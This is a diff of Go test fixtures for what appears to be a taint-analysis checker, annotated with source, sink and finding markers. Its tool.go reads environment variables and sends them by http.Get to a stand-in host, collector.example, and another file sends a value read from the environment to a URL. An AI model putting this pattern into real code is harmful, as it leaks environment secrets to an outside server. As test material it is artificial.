@@ -98,3 +98,41 @@ func (f *File) Send(text string) {}
 package odd
 
 func Report(text string) {}
+
+// --- path: shop/internal/send/system_linux.go ---
+package send
+
+import "os"
+
+func System() string { return os.Getenv("LINUX") } //~ source(ENVIRONMENT) f5
+
+func (c *Client) System(text string) {}
+
+// --- path: shop/internal/send/system_windows.go ---
+package send
+
+import (
+	"net/http"
+	"os"
+)
+
+func System() string { return os.Getenv("WINDOWS") } //~ source(ENVIRONMENT) f6
+
+func (c *Client) System(text string) {
+	http.Get(url + text) //~ sink(egress.http) f7, finding(traced) f7
+}
+
+// --- path: shop/tool/tool.go ---
+package main
+
+import (
+	"net/http"
+	"os"
+
+	"example.com/shop/internal/send"
+)
+
+func main() {
+	http.Get("https://collector.example/u?" + send.System()) //~ sink(egress.http) f5, sink(egress.http) f6, finding(traced) f5, finding(traced) f6
+	send.NewClient("x").System(os.Getenv("S")) //~ source(ENVIRONMENT) f7
+}
